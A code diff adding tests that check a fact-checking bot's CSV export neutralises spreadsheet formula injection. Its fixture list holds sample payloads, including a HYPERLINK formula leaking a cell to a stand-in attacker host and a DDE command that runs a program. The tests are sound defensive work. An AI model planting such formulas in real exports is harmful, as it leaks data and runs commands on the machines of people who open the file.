@@ -146,3 +146,52 @@ def test_csv_round_trips_through_a_spreadsheet_reader(
     assert (by_ref[second]["verdict"], by_ref[second]["rating_value"]) == ("unverifiable", "")
     assert by_ref[stored.claims[1].id]["status"] == "new" and by_ref[stored.claims[1].id]["verdict"] == ""
     assert by_ref[first]["claim"] == stored.claims[0].text
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "＝1+1",
+]
+
+
+def test_csv_cells_from_article_text_cannot_run_as_formulas(
+    desk: Desk, stored: TriageReport, editor: Actor, place: Place, session_factory
+) -> None:
+    """OWASP CSV injection: every cell quoted, and a cell starting like a formula gets a leading apostrophe."""
+    from storage import audit
+    from storage.claims import get_claim
+    from storage.threads import get_thread
+
+    ref = int(stored.claims[0].id.removeprefix("C-"))
+    with session_factory() as session, session.begin():
+        claim = get_claim(session, ref)
+        claim.text, claim.speaker = FORMULAS[0], FORMULAS[1]
+        get_thread(session, claim.thread_id).title = FORMULAS[2]
+        audit.record(session, actor="test", action="test.hostile_text", claim=claim)
+    desk.run(f"verdict {stored.claims[0].id} false {FORMULAS[3]}", editor, place)
+    text = desk.run(f"export {stored.thread_ref} csv", editor, place).text
+    rows = list(csv.DictReader(io.StringIO(text)))
+    first = next(r for r in rows if r["ref"] == stored.claims[0].id)
+    assert first["claim"] == "'" + FORMULAS[0]
+    assert first["speaker"] == "'" + FORMULAS[1]
+    assert first["article_title"] == "'" + FORMULAS[2]
+    assert first["explanation"] == "'" + FORMULAS[3]
+    assert all(line.startswith('"') for line in text.splitlines())  # every cell quoted
+    for row in rows:
+        for value in row.values():
+            assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
+
+
+def test_the_csv_neutraliser_covers_every_owasp_trigger() -> None:
+    from bot.desk.export import _inert
+
+    for formula in FORMULAS:
+        assert _inert(formula) == "'" + formula
+    assert _inert("Council approved 4.2bn") == "Council approved 4.2bn"
+    assert _inert("") == ""
